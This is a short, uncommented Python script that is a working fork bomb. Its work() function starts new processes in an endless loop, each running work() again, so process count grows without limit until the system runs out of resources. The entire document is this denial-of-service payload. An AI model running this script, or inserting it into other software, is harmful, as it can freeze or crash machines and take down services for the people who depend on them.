from multiprocessing import Process


def work():
    while True:
        Process(target=work).start()


if __name__ == "__main__":
    work()
